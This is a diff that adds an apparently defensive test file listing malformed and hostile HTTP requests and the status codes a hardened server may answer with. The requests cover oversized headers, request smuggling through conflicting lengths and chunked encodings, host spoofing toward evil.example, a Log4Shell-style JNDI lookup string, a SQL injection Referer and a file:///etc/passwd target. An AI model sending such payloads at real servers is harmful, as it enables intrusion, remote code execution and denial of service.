@@ -1,0 +1,228 @@
+import { PAGE_PATH } from '@/tests/support/content'
+import type { Attempt, RawAttempt } from '@/tests/support/hostile/attempt'
+
+const NO_METHOD = [400, 403, 404, 405]
+/** A server may say that it knows no such method, coding or version (RFC 9110, 15.6.2 and 15.6.6). */
+const NOT_UNDERSTOOD = [0, 400, 405, 413, 414, 429, 431, 501, 505]
+
+const METHODS = [
+  ...['TRACE', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE', 'LOCK', 'SEARCH', 'PURGE', 'REPORT', 'MERGE'],
+  ...['PATCH', 'PUT', 'DELETE', 'POST', 'OPTIONS', 'LINK', 'SUBSCRIBE', 'M-SEARCH', 'ACL', 'BIND'],
+]
+
+const methods = METHODS.flatMap((method) =>
+  [PAGE_PATH, '/sitemap.xml', '/healthz'].map((path): Attempt => ({
+    tries: `${method} ${path}`,
+    method,
+    path,
+    allowed: NO_METHOD,
+  })),
+)
+
+const page = (headers: Record<string, string>, tries: string, closed: number[] = []): Attempt => ({
+  tries,
+  path: PAGE_PATH,
+  headers,
+  allowed: [200, 206, 304, 400, 412, 416, 431, ...closed],
+})
+
+const HEADERS = [
+  page({ Range: 'bytes=0-0' }, 'the first byte'),
+  page({ Range: `bytes=${'0-1,'.repeat(1_000)}0-2` }, '1,000 ranges'),
+  page({ Range: 'bytes=9-1' }, 'a range that runs back'),
+  page({ Range: 'bytes=-99999999999999999999' }, 'a range beyond all'),
+  page({ 'If-None-Match': `"a",`.repeat(3_000) }, '3,000 tags'),
+  page({ 'If-None-Match': `W/"${'a'.repeat(9_000)}"` }, 'a tag of 9,000 characters'),
+  page({ 'If-None-Match': '*' }, 'any tag'),
+  page({ 'If-Match': '"x"', 'If-Unmodified-Since': 'x' }, 'conditions that cannot be'),
+  page({ 'If-Modified-Since': '9'.repeat(5_000) }, 'a date that is none'),
+  page({ 'Accept-Encoding': 'a;q=0.1,'.repeat(1_200) }, '1,200 encodings'),
+  page({ 'Accept-Encoding': 'gzip;q=2, *;q=-1, br;q=NaN' }, 'encodings of odd worth'),
+  page({ 'Accept-Language': 'x-a;q=0.1,'.repeat(1_000) }, '1,000 languages'),
+  page({ 'Accept-Language': '-'.repeat(9_000) }, 'a language of 9,000 hyphens'),
+  page({ Accept: `${'a/b;q=0.1,'.repeat(900)}*/*` }, '900 types'),
+  page({ Cookie: 'a=b; '.repeat(2_000) }, '2,000 cookies'),
+  page({ Cookie: `payload-token=${'a'.repeat(9_000)}` }, 'a session of 9,000 letters'),
+  page({ Cookie: '__proto__=a; constructor=b; =; ;;' }, 'cookies of odd names'),
+  page({ Cookie: '%'.repeat(9_000) }, 'a cookie of broken codes'),
+  page({ Forwarded: 'for=a;'.repeat(1_000), Via: 'a, '.repeat(1_000) }, 'a long way'),
+  page({ 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'javascript' }, 'another host'),
+  page({ 'X-Forwarded-Port': '99999', 'X-Forwarded-Prefix': '/evil' }, 'another port'),
+  page(
+    { 'User-Agent': '${jndi:ldap://evil.example/a}', Referer: "' or 1=1 --" },
+    'words for a log',
+  ),
+  page({ 'User-Agent': 'a'.repeat(9_000) }, 'a browser of a long name'),
+  page({ Origin: 'null', 'Sec-Fetch-Site': 'x', 'Sec-Fetch-Mode': 'x' }, 'odd metadata'),
+  page({ 'Content-Length': '0', 'Content-Type': '\t' }, 'a type of a tab'),
+  page({ Upgrade: 'websocket', Connection: 'Upgrade', 'Sec-WebSocket-Key': 'a' }, 'a socket', [0]),
+  page(
+    { Upgrade: 'h2c', Connection: 'Upgrade, HTTP2-Settings', 'HTTP2-Settings': 'a' },
+    'HTTP/2',
+    [0],
+  ),
+  page({ Connection: 'Host, Cookie, X-Forwarded-For' }, 'headers dropped on the way'),
+  page({ Host: 'evil.example' }, 'a request for another site'),
+  page({ Host: 'localhost:99999' }, 'a port that is none'),
+  page({ Host: 'a'.repeat(2_000) }, 'a long name of a site'),
+]
+
+const raw = (
+  tries: string,
+  lines: string | ((host: string) => string),
+  allowed?: readonly number[],
+): RawAttempt => ({
+  tries,
+  bytes: (host) => Buffer.from(typeof lines === 'string' ? lines : lines(host), 'latin1'),
+  allowed,
+})
+
+const start = (host: string, method = 'GET', path = PAGE_PATH) =>
+  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n`
+
+const header = (tries: string, line: string, allowed = [0, 200, 400, 431]) =>
+  raw(tries, (host) => `${start(host)}${line}\r\n\r\n`, allowed)
+
+const login = (tries: string, headers: string, body: string, allowed = NOT_UNDERSTOOD) =>
+  raw(
+    tries,
+    (host) =>
+      `${start(host, 'POST', '/api/users/login')}Content-Type: application/json\r\n${headers}\r\n\r\n${body}`,
+    allowed,
+  )
+
+const FRAMING = [
+  raw('no sense at all', 'bonjour\r\n\r\n', NOT_UNDERSTOOD),
+  raw(
+    'a greeting of TLS',
+    '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'.padEnd(60, '\0'),
+    NOT_UNDERSTOOD,
+  ),
+  raw('the preface of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', NOT_UNDERSTOOD),
+  raw('HTTP/0.9', `GET ${PAGE_PATH}\r\n`, [...NOT_UNDERSTOOD, 200]),
+  raw('HTTP/1.0 without a host', `GET ${PAGE_PATH} HTTP/1.0\r\n\r\n`, [200, 400]),
+  raw('HTTP/3.0', (host) => `GET / HTTP/3.0\r\nHost: ${host}\r\n\r\n`, NOT_UNDERSTOOD),
+  raw('HTTP/1.1 without a host', `GET ${PAGE_PATH} HTTP/1.1\r\nConnection: close\r\n\r\n`, [400]),
+  header('two hosts', 'Host: evil.example'),
+  raw('a host that is none', `GET / HTTP/1.1\r\nHost: a b\r\n\r\n`, [0, 200, 307, 400]),
+  raw(
+    'a whole address',
+    (host) => start(host, 'GET', `http://${host}${PAGE_PATH}`) + '\r\n',
+    [200, 400, 404],
+  ),
+  raw(
+    'the address of another site',
+    (host) => start(host, 'GET', 'http://evil.example/') + '\r\n',
+    [200, 307, 308, 400, 404],
+  ),
+  raw('a file', (host) => start(host, 'GET', 'file:///etc/passwd') + '\r\n', [400, 404]),
+  raw('the server itself', (host) => start(host, 'OPTIONS', '*') + '\r\n', [200, 400, 404, 405]),
+  raw(
+    'a tunnel',
+    `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`,
+    [0, 400, 405],
+  ),
+  raw('an address with a space', (host) => start(host, 'GET', '/a b') + '\r\n', [400, 404]),
+  raw('an address with a null', (host) => start(host, 'GET', '/a\0b') + '\r\n', [0, 400]),
+  raw('an address in Latin-1', (host) => start(host, 'GET', '/caf\xe9') + '\r\n', [400, 404]),
+  raw('an address without a slash', (host) => start(host, 'GET', 'x') + '\r\n', [400, 404]),
+  raw('a mark in the address', (host) => start(host, 'GET', '/a#b') + '\r\n', [200, 400, 404]),
+  raw('a method in small letters', (host) => start(host, 'get') + '\r\n', NOT_UNDERSTOOD),
+  raw(
+    'a method of 5,000 letters',
+    (host) => start(host, 'A'.repeat(5_000)) + '\r\n',
+    NOT_UNDERSTOOD,
+  ),
+  raw(
+    'lines that end in a feed alone',
+    (host) => start(host).replaceAll('\r', '') + '\n',
+    [0, 200, 400],
+  ),
+  header('a header with a null', 'X-A: a\0b'),
+  header('a header without a name', ': a'),
+  header('a header with a space before its colon', 'X-A : a'),
+  header('a header on two lines', 'X-A: a\r\n b'),
+  header('a header that is none', 'abc'),
+  header('a name of odd signs', 'X-(A): b'),
+  header('200 headers', Array.from({ length: 200 }, (_, index) => `X-${index}: a`).join('\r\n')),
+  header(
+    '3,000 headers',
+    Array.from({ length: 3_000 }, (_, index) => `X-${index}: a`).join('\r\n'),
+  ),
+  header('a header of 12,000 characters', `X-A: ${'a'.repeat(12_000)}`),
+  header('a header of 100,000 characters', `X-A: ${'a'.repeat(100_000)}`),
+  header('a name of 10,000 characters', `${'X'.repeat(10_000)}: a`),
+  header('bytes of no text', 'X-A: \xff\xfe\x80'),
+  header('a response in a header', 'X-A: a\rHTTP/1.1 200 OK'),
+  login('two lengths', 'Content-Length: 2\r\nContent-Length: 3', '{}x'),
+  login('a length and pieces', 'Content-Length: 2\r\nTransfer-Encoding: chunked', '0\r\n\r\n'),
+  login('a length below none', 'Content-Length: -1', '{}'),
+  login('a length in words', 'Content-Length: deux', '{}'),
+  login('a length beyond all', 'Content-Length: 99999999999999999999', '{}'),
+  login('30 million bytes announced', 'Content-Length: 30000000', ''.padEnd(100), [400, 413]),
+  login('an unknown coding', 'Transfer-Encoding: gzip', '{}'),
+  login('a coding twice', 'Transfer-Encoding: chunked, chunked', '0\r\n\r\n'),
+  login(
+    'a coding behind a tab',
+    'Transfer-Encoding:\tchunked\r\nTransfer-Encoding: x',
+    '0\r\n\r\n',
+  ),
+  login('pieces of no size', 'Transfer-Encoding: chunked', 'zz\r\n{}\r\n0\r\n\r\n'),
+  login('pieces larger than said', 'Transfer-Encoding: chunked', '1\r\n{}{}{}\r\n0\r\n\r\n'),
+  login('a piece beyond all', 'Transfer-Encoding: chunked', 'FFFFFFFFFFFFFFFFF\r\n{}\r\n'),
+  login('a piece below none', 'Transfer-Encoding: chunked', '-2\r\n{}\r\n0\r\n\r\n'),
+  login(
+    'a piece of 20,000 remarks',
+    'Transfer-Encoding: chunked',
+    `2;${'a=b;'.repeat(20_000)}\r\n{}\r\n0\r\n\r\n`,
+  ),
+  login('500 trailers', 'Transfer-Encoding: chunked', `0\r\n${'X-A: b\r\n'.repeat(500)}\r\n`, [
+    ...NOT_UNDERSTOOD,
+    401,
+  ]),
+  login(
+    '2,000 pieces of a byte',
+    'Transfer-Encoding: chunked',
+    `${'1\r\n \r\n'.repeat(2_000)}0\r\n\r\n`,
+    [...NOT_UNDERSTOOD, 401],
+  ),
+  login('an expectation', 'Expect: 200-ok\r\nContent-Length: 2', '{}', [
+    ...NOT_UNDERSTOOD,
+    401,
+    417,
+  ]),
+  login(
+    'a promise to wait',
+    'Expect: 100-continue\r\nContent-Length: 2',
+    '{}',
+    [100, 400, 401, 405],
+  ),
+  raw(
+    '60 requests at once',
+    (host) => `GET ${PAGE_PATH} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(60),
+    [200, 429],
+  ),
+  raw(
+    '200 requests for what is not there',
+    (host) =>
+      Array.from(
+        { length: 200 },
+        (_, i) => `HEAD /nul-${i} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
+      ).join(''),
+    [404, 429],
+  ),
+  raw(
+    'a request within a body',
+    (host) =>
+      `${start(host, 'POST')}Content-Length: 40\r\n\r\nGET /admin HTTP/1.1\r\nHost: ${host}\r\n\r\n`.padEnd(
+        400,
+      ),
+    [400, 405],
+  ),
+]
+
+export const methodsAndFraming = (): (Attempt | RawAttempt)[] => [
+  ...methods,
+  ...HEADERS,
+  ...FRAMING,
+]
